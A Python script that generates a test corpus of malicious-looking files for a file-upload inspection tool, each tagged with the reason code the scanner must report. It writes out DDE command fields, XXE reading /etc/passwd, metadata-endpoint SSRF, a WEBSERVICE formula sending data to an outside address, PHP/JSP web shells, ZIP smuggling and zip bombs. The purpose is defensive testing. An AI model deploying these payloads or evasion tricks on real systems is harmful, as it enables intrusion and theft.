#!/usr/bin/env python3
"""Writes the threat corpus: at least two samples for every inspection reason code, each with the filename and
declarations a client would send and the reason code inspection must report. Used by ThreatCorpusTests on every
engine; also usable by hand (`airlock scan`).

    generate_threats.py OUT_DIR   -> files in OUT_DIR, manifest.json listing them

EICAR is assembled from two halves at run time: the repository holds no whole sample."""
import hashlib
import io
import json
import os
import struct
import sys
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from formats import pdf_document, png, zipped  # noqa: E402

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
manifest = []
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()


def sample(file, data, expect, name=None, declared_type=None, declared_size=None, declared_sha256=None, why=""):
    data = data.encode() if isinstance(data, str) else data
    with open(os.path.join(out, file), "wb") as f:
        f.write(data)
    manifest.append({"file": file, "name": name or file, "declaredType": declared_type, "declaredSize": declared_size,
                     "declaredSHA256": declared_sha256, "expect": expect, "why": why})


def png_bytes():
    return png(8, 8, lambda x, y: ((x * 30) % 256, (y * 30) % 256, 128))


def pdf(catalog_extra=b"", extra_objects=(), trailer_extra=b""):
    return pdf_document([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] + list(extra_objects), trailer_extra, b"1.7")


def object_stream(objects):
    header, content = b"", b""
    for index, obj in enumerate(objects):
        header += f"{10 + index} {len(content)} ".encode()
        content += obj + b"\n"
    data = zlib.compress(header + content)
    return (f"<< /Type /ObjStm /N {len(objects)} /First {len(header)} /Filter /FlateDecode /Length {len(data)} >>\nstream\n".encode()
            + data + b"\nendstream")


def pe():
    return b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 18 + b"\x0b\x01" + b"\x00" * 300


def elf():
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x01\x00\x00\x00" + b"\x00" * 200


def set_encrypted_flag(data):
    data = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := data.find(signature, start)) >= 0:
            data[found + offset] |= 1
            start = found + 4
    return bytes(data)


text = "An ordinary line of text for the corpus.\n"

# filename_invalid
sample("fn-traversal.txt", text, "filename_invalid", name="../../etc/cron.d/job.txt", why="path separators and '..'")
sample("fn-bidi.txt", text, "filename_invalid", name="invoice\u202etxt.exe.txt", why="U+202E right-to-left override")
sample("fn-control.txt", text, "filename_invalid", name="report\x07.txt", why="a control character")
sample("fn-long.txt", text, "filename_invalid", name="a" * 252 + "é.txt", why="longer than 255 bytes")
# extension_not_allowed
sample("ext-exe.exe", pe(), "extension_not_allowed", name="setup.exe")
sample("ext-double.exe", pe(), "extension_not_allowed", name="invoice.pdf.exe", why="the last suffix counts")
sample("ext-js.js", "alert(1)\n", "extension_not_allowed", name="readme.js")
# type_not_allowed
sample("tna-pe.txt", pe(), "type_not_allowed", name="notes.txt", why="a Windows executable named .txt")
sample("tna-elf.png", elf(), "type_not_allowed", name="photo.png", why="an ELF executable named .png")
# type_mismatch
sample("tm-pdf-as-png.png", pdf(), "type_mismatch", name="photo.png", why="a PDF named .png")
sample("tm-png-as-csv.csv", png_bytes(), "type_mismatch", name="data.csv", why="a PNG named .csv")
sample("tm-declared.txt", text, "type_mismatch", name="letter.txt", declared_type="image/png", why="declared image/png")
sample("tm-polyglot.png", png_bytes() + zipped({"a.txt": "hidden"}), "type_mismatch", name="photo.png", why="a zip after IEND")
# archive_member_not_allowed
sample("amna-exe.zip", zipped({"readme.txt": text, "tools/setup.exe": pe()}), "archive_member_not_allowed", name="bundle.zip")
sample("amna-nested.zip", zipped({"inner.zip": zipped({"payload.js": "alert(1)"})}), "archive_member_not_allowed", name="bundle.zip",
       why="a disallowed member one level down")
# size_exceeded (profile maxSize 256 KiB)
sample("se-text.txt", text * 7000, "size_exceeded", name="big.txt")
sample("se-csv.csv", "a,b,c\n" * 60000, "size_exceeded", name="big.csv")
# size_mismatch
sample("sm-larger.txt", text, "size_mismatch", name="a.txt", declared_size=10)
sample("sm-smaller.txt", text, "size_mismatch", name="b.txt", declared_size=len(text) * 3)
# empty
sample("empty.txt", b"", "empty", name="empty.txt")
sample("empty.pdf", b"", "empty", name="scan.pdf")
# checksum_mismatch
sample("cm-other.txt", text, "checksum_mismatch", name="a.txt", declared_sha256=hashlib.sha256(b"other bytes").hexdigest())
sample("cm-upper.txt", text + "x", "checksum_mismatch", name="b.txt", declared_sha256=hashlib.sha256(text.encode()).hexdigest().upper())
# malware (EICAR in many wrappings)
sample("mw-plain.txt", EICAR, "malware", name="harmless.txt")
sample("mw-nested.zip", zipped({"a/inner.zip": zipped({"b/deeper.zip": zipped({"eicar.txt": EICAR})})}), "malware", name="bundle.zip",
       why="three levels deep")
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as z:
    with z.open("big.txt", "w", force_zip64=True) as member:
        member.write(EICAR)
sample("mw-zip64.zip", buffer.getvalue(), "malware", name="bundle.zip", why="ZIP64, which ClamAV does not unpack")
sample("mw-concatenated-stored.zip", zipped({"eicar.txt": EICAR}, zipfile.ZIP_STORED) + zipped({"ok.txt": text}), "malware", name="two.zip",
       why="the infected archive is the first of two, stored")
# ClamAV misses a deflated EICAR in the first of two concatenated archives; Airlock refuses the layout.
sample("un-concatenated.zip", zipped({"eicar.txt": EICAR}) + zipped({"ok.txt": text}), "unscannable", name="two.zip",
       why="two archives in one file (ClamAV does not see the first one's deflated member)")
sample("mw-polyglot.png", png_bytes() + zipped({"eicar.txt": EICAR}), "malware", name="photo.png", why="EICAR in a zip after IEND")
# active_content
sample("ac-svg.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "active_content", name="logo.svg")
sample("ac-svg-href.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
       '<a xlink:href="&#106;avascript:alert(1)"><text>x</text></a></svg>', "active_content", name="icon.svg")
sample("ac-pdf-js.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "active_content", name="report.pdf")
sample("ac-pdf-escaped-objstm.pdf", pdf(extra_objects=[object_stream([b"<< /S /J#61vaScript /JS (x) >>"])]), "active_content",
       name="report.pdf", why="an escaped name inside a compressed object stream")
sample("ac-pdf-launch.pdf", pdf(extra_objects=[b"<< /S /Launch /F (cmd.exe) >>"]), "active_content", name="form.pdf")
sample("ac-docm.docx", zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>",
                                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 200}), "active_content", name="invoice.docx")
# unscannable
sample("un-encrypted.zip", set_encrypted_flag(zipped({"secret.txt": text}, zipfile.ZIP_STORED)), "unscannable", name="secret.zip")
sample("un-pdf-encrypted.pdf", pdf(trailer_extra=b"/Encrypt << /Filter /Standard /V 2 /R 3 >>"), "unscannable", name="locked.pdf")
sample("un-deep.zip", zipped({"1.zip": zipped({"2.zip": zipped({"3.zip": zipped({"4.txt": text})})})}), "unscannable", name="deep.zip",
       why="nested deeper than maxDepth 3")
sample("un-bzip2.zip", zipped({"a.txt": text * 10}, zipfile.ZIP_BZIP2), "unscannable", name="packed.zip", why="a compression method not unpacked")


# --- Classes of issue 15, each in variants of our own (never copies of public samples). ---
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def package(parts, content_types='<Types xmlns="%s"/>' % CT, rels='<Relationships xmlns="%s"/>' % PR):
    return zipped({"[Content_Types].xml": content_types, "_rels/.rels": rels, **parts})


def docx(body, extra=None, **kwargs):
    return package({"word/document.xml": '<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (W, body), **(extra or {})}, **kwargs)


def xlsx(extra, **kwargs):
    return package({"xl/workbook.xml": "<workbook/>", **extra}, **kwargs)


def run(text):
    return "<w:r><w:instrText xml:space=\"preserve\">%s</w:instrText></w:r>" % text


# DDE fields: whole, split across runs, lower case, in a simple field, in a header part.
sample("dde-field.docx", docx("<w:p>" + run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + "</w:p>"), "active_content", name="memo.docx")
sample("dde-split.docx", docx("<w:p>" + run(" DD") + run("EAUTO ") + run("c:\\\\x.exe") + "</w:p>"), "active_content", name="memo.docx",
       why="one field's code split over three runs")
sample("dde-simple.docx", docx('<w:p><w:fldSimple w:instr=" dde cmd &quot;/c calc&quot; "/></w:p>'), "active_content", name="memo.docx")
sample("dde-header.docx", docx("<w:p/>", {"word/header1.xml": '<w:hdr xmlns:w="%s"><w:p>%s</w:p></w:hdr>' % (W, run("DDE cmd x"))}),
       "active_content", name="memo.docx")
# SpreadsheetML: a DDE link part and a DDE formula.
sample("dde-link.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
       "active_content", name="sheet.xlsx")
sample("dde-formula.xlsx", xlsx({"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>"}),
       "active_content", name="sheet.xlsx")
# XXE: a DOCTYPE in any part, an external schema.
sample("xxe-core.docx", docx("<w:p/>", {"docProps/core.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}),
       "active_content", name="memo.docx")
sample("xxe-sheet.xlsx", xlsx({"xl/worksheets/sheet1.xml": '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>'}),
       "active_content", name="sheet.xlsx", why="an entity expansion bomb")
sample("xsd-import.xlsx", xlsx({"xl/xmlMaps.xml": '<MapInfo><Schema><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
                                '<xs:import schemaLocation="http://169.254.169.254/latest"/></xs:schema></Schema></MapInfo>'}),
       "active_content", name="sheet.xlsx")
# Macros found by content type and relationship, under a harmless part name.
sample("macro-renamed.docx", docx("<w:p/>", {"word/settings.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 200,
                                             "word/_rels/document.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r9" '
                                             'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="settings.bin"/></Relationships>' % PR}),
       "active_content", name="memo.docx", why="a VBA project part named settings.bin, found by its relationship")
sample("macro-content-type.docx", docx("<w:p/>", content_types='<Types xmlns="%s"><Override PartName="/word/document.xml" '
                                       'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' % CT),
       "active_content", name="memo.docx", why="a macro-enabled main part declared in [Content_Types].xml")
# Remote templates and objects fetched on open.
sample("remote-template.docx", docx("<w:p/>", {"word/_rels/settings.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r1" '
                                                'Type="%s/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>' % (PR, R)}),
       "active_content", name="memo.docx")
sample("remote-image.docx", docx("<w:p/>", {"word/_rels/document.xml.rels": '<Relationships xmlns="%s"><Relationship Id="r2" '
                                             'Type="%s/image" Target="\\\\198.51.100.7\\share\\a.png" TargetMode="External"/></Relationships>' % (PR, R)}),
       "active_content", name="memo.docx", why="a UNC image fetched on open")
# An embedded workbook is walked as a document: a macro inside it is found.
sample("embedded-macro.docx", docx("<w:p/>", {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 64})}),
       "active_content", name="memo.docx")
# ZIP: duplicate names (also differing in case), a symbolic link, local and central names that disagree.
dup = io.BytesIO()
with zipfile.ZipFile(dup, "w") as z:
    z.writestr("report.txt", text)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        z.writestr("report.txt", "other content\n")
sample("un-duplicate.zip", dup.getvalue(), "unscannable", name="dup.zip")
sample("un-duplicate-case.zip", zipped({"Report.txt": text, "report.TXT": "other\n"}), "unscannable", name="dup.zip")
link = io.BytesIO()
with zipfile.ZipFile(link, "w") as z:
    info = zipfile.ZipInfo("notes.txt")
    info.create_system = 3
    info.external_attr = (0o120777 << 16)
    z.writestr(info, "/etc/passwd")
sample("ac-symlink.zip", link.getvalue(), "active_content", name="notes.zip")
mismatch = bytearray(zipped({"readme.txt": text}, zipfile.ZIP_STORED))
mismatch[30:40] = b"shell.php!"
sample("un-local-name.zip", bytes(mismatch), "unscannable", name="mismatch.zip", why="the local header names shell.php!")
# Names that servers or Windows read differently.
sample("fn-double.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", "filename_invalid", name="shell.php.gif")
sample("fn-semicolon.png", png_bytes(), "filename_invalid", name="shell.asp;.png")
sample("fn-stream.png", png_bytes(), "filename_invalid", name="file.asax:.png")
sample("fn-markup.png", png_bytes(), "filename_invalid", name='"><img src=x onerror=alert(1)>.png')
# Budget: a recursive bomb (every level holds several copies of the level below).
level = zipped({"core.txt": text * 50})
for depth in range(8):
    level = zipped({"%d-%d.zip" % (depth, copy): level for copy in range(6)})
sample("un-recursive-bomb.zip", level, "unscannable", name="bomb.zip", why="8 levels of 6 copies: depth and member budget")

# --- Variants found by an attacker who read the code (each once a fail-open path). ---
# A plain archive that holds a [Content_Types].xml is still walked member by member.
sample("zip-content-types.zip", zipped({"readme.txt": text, "shell.php": "<?php system($_GET['c']); ?>",
                                        "[Content_Types].xml": '<Types xmlns="%s"/>' % CT}), "archive_member_not_allowed", name="docs.zip")
# An entry hidden after a member's deflate stream, inside the member's listed compressed size (streaming readers
# see it, the central directory does not).
hidden = io.BytesIO()
with zipfile.ZipFile(hidden, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("readme.txt", text)
raw = bytearray(hidden.getvalue())
smuggled = zipped({"shell.jsp": "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"}, zipfile.ZIP_STORED)
local_end = smuggled.index(b"PK\x01\x02")
name_len = struct.unpack("<H", raw[26:28])[0]
extra_len = struct.unpack("<H", raw[28:30])[0]
data_start = 30 + name_len + extra_len
compressed = struct.unpack("<I", raw[18:22])[0]
payload = bytes(raw[data_start:data_start + compressed]) + smuggled[:local_end]
rebuilt = io.BytesIO()
rebuilt.write(raw[:data_start])
rebuilt.write(payload)
central = bytearray(raw[data_start + compressed:])
cd = central.index(b"PK\x01\x02")
struct.pack_into("<I", central, cd + 20, len(payload))
eocd = central.rindex(b"PK\x05\x06")
struct.pack_into("<I", central, eocd + 16, data_start + len(payload))
header = bytearray(rebuilt.getvalue())
struct.pack_into("<I", header, 18, len(payload))
sample("zip-hidden-entry.zip", bytes(header) + bytes(central), "unscannable", name="docs.zip",
       why="a second local entry inside the first member's compressed span")
# Forged ZIP64 sizes near Int64.max must not crash the walker.
big = bytearray(zipped({"a.txt": text}, zipfile.ZIP_STORED))
cd = big.index(b"PK\x01\x02")
struct.pack_into("<I", big, cd + 20, 0xFFFFFFFF)
extra = struct.pack("<HHQ", 1, 8, 0x7FFFFFFFFFFFFFF0)
name_len = struct.unpack("<H", big[cd + 28:cd + 30])[0]
struct.pack_into("<H", big, cd + 30, len(extra))
big[cd + 46 + name_len:cd + 46 + name_len] = extra
eocd = big.rindex(b"PK\x05\x06")
struct.pack_into("<I", big, eocd + 12, struct.unpack("<I", big[eocd + 12:eocd + 16])[0] + len(extra))
sample("zip-forged-zip64.zip", bytes(big), "unscannable", name="docs.zip", why="ZIP64 sizes that overflow offsets")
sample("zip-dot-duplicate.zip", zipped({"readme.txt": text, "./readme.txt": "other\n"}), "unscannable", name="dup.zip")
# DDE hidden by character references, CDATA, UTF-16, a renamed main part, a defined name; a WEBSERVICE formula.
sample("dde-entity.docx", docx("<w:p>" + run("&#68;DEAUTO c:\\\\x.exe") + "</w:p>"), "active_content", name="memo.docx")
sample("dde-cdata.docx", docx("<w:p><w:r><w:instrText><![CDATA[DDEAUTO c:\\x.exe]]></w:instrText></w:r></w:p>"), "active_content", name="memo.docx")
utf16 = ('<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="%s"><w:body><w:p>%s</w:p></w:body></w:document>' % (W, run("DDEAUTO cmd"))).encode("utf-16")
sample("dde-utf16.docx", package({"word/document.xml": utf16}), "active_content", name="memo.docx")
sample("dde-renamed-part.docx", docx("<w:p/>", {"word/main.dat": '<w:document xmlns:w="%s"><w:body><w:p>%s</w:p></w:body></w:document>' % (W, run("DDEAUTO cmd"))}),
       "active_content", name="memo.docx", why="the part Office loads is named main.dat")
sample("dde-defined-name.xlsx", xlsx({"xl/workbook.xml": "<workbook><definedNames><definedName name=\"e\">cmd|' /c calc'!A0</definedName></definedNames></workbook>"}),
       "active_content", name="sheet.xlsx")
sample("webservice.xlsx", xlsx({"xl/worksheets/sheet1.xml": '<worksheet><sheetData><row><c><f>_xlfn.WEBSERVICE("http://198.51.100.7/?"&amp;A2)</f></c></row></sheetData></worksheet>'}),
       "active_content", name="sheet.xlsx")
rels16 = ('<Relationships xmlns="%s"><Relationship Id="r1" Type="%s/attachedTemplate" Target="http://198.51.100.7/t.dotm" '
          'TargetMode=" External "/></Relationships>' % (PR, R)).encode("utf-16-be")
sample("remote-template-utf16.docx", docx("<w:p/>", {"word/_rels/settings.xml.rels": b"\xfe\xff" + rels16}), "active_content", name="memo.docx")
sample("package-in-media.docx", docx("<w:p/>", {"word/media/Report.docx": docx("<w:p>" + run("DDEAUTO cmd") + "</w:p>")}), "active_content",
       name="memo.docx", why="an embedded document stored under media/")

# A PNG whose private chunk holds a whole ZIP (its end record's comment covers the CRC and IEND): no trailer.
inner_zip = zipped({"shell.php": "<?php system($_GET['c']); ?>"}, zipfile.ZIP_STORED)
plain = png_bytes()
iend = plain.rindex(b"IEND") - 4
chunk_data = inner_zip[:-2] + struct.pack("<H", 16)  # comment length: the chunk CRC (4) and the IEND chunk (12)
chunk = struct.pack(">I", len(chunk_data)) + b"zIPp" + chunk_data
chunk += struct.pack(">I", zlib.crc32(b"zIPp" + chunk_data) & 0xFFFFFFFF)
sample("png-zip-chunk.png", plain[:iend] + chunk + plain[iend:], "type_mismatch", name="avatar.png", why="a ZIP inside a PNG chunk")
# Markup read in another declared encoding; a UNC image; a JSP declaration in text.
sample("svg-iso2022.svg", '<?xml version="1.0" encoding="ISO-2022-JP"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
       "active_content", name="logo.svg")
sample("svg-unc.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="\\\\198.51.100.7\\s\\x.png"/></svg>',
       "active_content", name="logo.svg")
sample("jsp-declaration.txt", "notes\n<%! static { try { Runtime.getRuntime().exec(\"id\"); } catch (Exception e) {} } %>\n", "active_content", name="notes.txt")
# Fenced code is judged like any other text (attack rounds 11 to 18 each found a fence one renderer passes through).
sample("fenced-handler.md", "# Counter\n\nUse it:\n\n```jsx\n<button onClick={() => go()}>Go</button>\n```\n\n"
       "```svg\n<svg viewBox=\"0 0 8 8\"><circle r=\"4\" onclick=\"pick()\"/></svg>\n```\n", "active_content", name="README.md",
       why="an event handler in a fenced code sample")

with open(os.path.join(out, "manifest.json"), "w") as f:
    json.dump(manifest, f, indent=1, ensure_ascii=False)
print(len(manifest))
